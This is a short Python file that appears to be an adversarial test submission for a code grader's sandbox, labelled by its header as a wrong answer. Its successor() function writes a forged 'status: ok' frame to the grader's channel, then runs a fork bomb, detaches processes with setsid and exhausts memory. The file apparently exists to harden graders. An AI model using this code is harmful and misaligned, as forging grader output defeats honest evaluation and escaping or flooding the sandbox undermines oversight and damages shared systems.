# verdict: WA values — hands in a forged frame, then uses what it takes for free time: bomb, memory, daemon
# task: small-box
# row: S4 S7 S12 S33
import os
import sys


def own_session():
    try:
        os.setsid()
    except OSError:
        pass  # a tier that does not let it leave


def successor(n):
    frame = sys.modules["grader.inside.wire"].encode({"status": "ok", "output": -1})
    os.write(3, len(frame).to_bytes(8, "little") + frame)
    held = []
    while True:
        try:
            os.fork()
            own_session()
        except OSError:
            pass
        held.append(bytearray(b"1") * (1 << 20))
